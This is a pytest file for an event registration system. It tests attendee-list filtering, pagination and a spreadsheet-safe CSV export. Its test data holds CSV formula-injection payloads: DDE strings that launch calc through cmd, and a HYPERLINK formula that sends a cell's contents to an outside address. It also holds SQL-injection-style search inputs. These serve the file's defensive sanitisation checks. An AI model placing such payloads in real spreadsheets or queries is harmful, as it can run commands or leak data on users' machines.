"""The attendee list: filters, pages, and a CSV that a spreadsheet opens safely."""

import csv
import io
from typing import Any

import pytest

from events.queries import details
from events.rules import Attendance, Mode
from registration.attendees import AttendeeFilter, attendee, attendees, csv_lines, safe_cell
from registration.by_hand import register_by_hand
from registration.errors import RegistrationUnknown
from registration.queries import counts_by_status
from registration.tables import Registration
from tests.registration.town import (
    GROUPS,
    NOW,
    ROUNDS,
    cancel,
    hold,
    newcomer,
    organiser,
    register,
    row_of,
    seat,
)


@pytest.fixture
async def event(outbox):
    """Kim is confirmed in a group, Toni pending online, Alex and Sascha wait, Robin has left."""
    await hold(mode=Mode.HYBRID, capacity=1, digital_capacity=1, sessions=ROUNDS, groups=GROUPS)
    await seat("kim", wishes={"first": ("wohnen",)})
    await register("toni", attendance=Attendance.ONLINE, wishes={"first": ("wohnen", "bildung")})
    await register("alex")
    await register("robin")
    await register("sascha", wishes={"second": ("bildung",)})
    await cancel("robin")
    await outbox.news()
    return await details("dialog")


async def names(event, after=0, limit=100, with_addresses=True, **wanted):
    found = await attendees(
        event, AttendeeFilter(**wanted), after=after, limit=limit, with_addresses=with_addresses
    )
    return [attendee.registration.name for attendee in found]


EVERYBODY = ["kim", "toni", "alex", "robin", "sascha"]


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        ({}, EVERYBODY),
        ({"status": "confirmed"}, ["kim"]),
        ({"status": "waitlisted"}, ["alex", "sascha"]),
        ({"status": "cancelled"}, ["robin"]),
        ({"status": "expired"}, []),
        ({"attendance": "online"}, ["toni"]),
        ({"attendance": "in_person", "status": "waitlisted"}, ["alex", "sascha"]),
        ({"group": "wohnen"}, ["kim"]),
        ({"group": "bildung"}, ["toni"]),
        ({"group": "arbeit"}, []),
        ({"language": "de"}, EVERYBODY),
        ({"language": "en"}, []),
        ({"q": "O"}, EVERYBODY),
        ({"q": "TONI"}, ["toni"]),
        ({"q": "toni@example"}, ["toni"]),
        ({"q": "%"}, []),
        ({"q": "_"}, []),
        ({"q": "\\"}, []),
        ({"q": "'; --"}, []),
        ({"q": "a", "status": "waitlisted"}, ["alex", "sascha"]),
    ],
)
async def test_what_is_asked_of_the_list(event, wanted, expected):
    assert await names(event, **wanted) == expected


async def test_an_attendee_is_found_by_the_number_of_the_phone_call(event):
    number = (await row_of("toni")).number
    assert await names(event, q=number[2:7].lower()) == ["toni"]


async def test_helpers_do_not_search_in_addresses(event):
    assert await names(event, with_addresses=False, q="example.org") == []
    assert await names(event, with_addresses=False, q="toni") == ["toni"]


async def test_page_by_page_everybody_stands_there_once(event):
    found, after = [], 0
    while page := await attendees(event, AttendeeFilter(), after=after, limit=2):
        assert len(page) <= 2
        assert page[0].registration.arrival > after
        found += [attendee.registration.name for attendee in page]
        after = page[-1].registration.arrival
    assert found == EVERYBODY


async def test_each_stands_there_with_group_and_place_on_the_waitlist(event):
    found = await attendees(event, AttendeeFilter())
    assert [(one.registration.name, one.groups, one.waitlist_position) for one in found] == [
        ("kim", {"first": "wohnen"}, None),
        ("toni", {"first": "bildung"}, None),
        ("alex", {}, 1),
        ("robin", {}, None),
        ("sascha", {"second": None}, 2),
    ]
    last = await attendees(event, AttendeeFilter(), after=found[-2].registration.arrival)
    assert [one.waitlist_position for one in last] == [2]
    alone = await attendee(event, await row_of("sascha"))
    assert (alone.groups, alone.waitlist_position) == ({"second": None}, 2)


async def test_an_attendee_of_another_event_is_none_of_this(event):
    other = await hold(slug="party")
    with pytest.raises(RegistrationUnknown):
        await attendee(other, await row_of("kim"))
    assert await names(other) == []


async def test_counts_name_every_status(event):
    assert await counts_by_status(event.id) == {
        "pending": 1,
        "confirmed": 1,
        "waitlisted": 2,
        "cancelled": 1,
        "expired": 0,
    }


# CSV


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Kim", "Kim"),
        ("", ""),
        ("1+1", "1+1"),
        ("a=b", "a=b"),
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("https://example.org?x="&A1,"Kim")', '\'=HYPERLINK("https://example.org?x="&A1,"Kim")'),
        ("+49 5241 000000", "'+49 5241 000000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM", "'＠SUM"),
    ],
)
def test_no_cell_begins_like_a_formula(text, cell):
    assert safe_cell(text) == cell


async def lines(event, **wanted):
    return b"".join([part async for part in csv_lines(event, AttendeeFilter(**wanted))])


async def test_the_list_opens_in_a_german_excel(event):
    content = await lines(event)
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.startswith(
        '"number";"name";"email";"status";"attendance";"seats";"language";"registered_at";'
        '"online_access";"group:first";"group:second"\r\n'
    )
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert [row["name"] for row in rows] == EVERYBODY
    assert rows[1] == {
        "number": (await row_of("toni")).number,
        "name": "toni",
        "email": "toni@example.org",
        "status": "pending",
        "attendance": "online",
        "seats": "1",
        "language": "de",
        "registered_at": "2022-11-01 13:00",
        "online_access": "",
        "group:first": "Bildung",
        "group:second": "",
    }


async def test_the_list_holds_what_was_asked_for(event):
    text = (await lines(event, status="waitlisted")).decode("utf-8-sig")
    assert [row["name"] for row in csv.DictReader(io.StringIO(text), delimiter=";")] == ["alex", "sascha"]


async def test_names_come_back_whole_and_none_is_a_formula(outbox):
    tricky = ['=cmd|"/c calc"!A0', 'Kim "die Flinke"; Muster', "Zeile\nZwei", "ÄÖÜ ß 山田"]
    await hold(capacity=None)
    by = await organiser()
    for name in tricky:
        await register_by_hand("dialog", newcomer(name, email=None), by, NOW)
    text = (await lines(await details("dialog"))).decode("utf-8-sig")
    found = [row["name"] for row in csv.DictReader(io.StringIO(text, newline=""), delimiter=";")]
    assert found == [f"'{tricky[0]}", *tricky[1:]]


async def test_a_long_list_is_written_page_by_page_and_whole(outbox):
    event = await hold(capacity=None)
    values: dict[str, Any] = {
        "event": event.id,
        "language": "de",
        "attendance": "in_person",
        "status": "cancelled",
    }
    people = [
        Registration(name=f"p{n}", number="", confirm_nonce="", own_nonce="", join_nonce="", **values)
        for n in range(1001)
    ]
    await Registration.insert(*people)
    parts = [part async for part in csv_lines(event, AttendeeFilter())]
    assert [part.count(b"\r\n") for part in parts] == [1, 500, 500, 1]
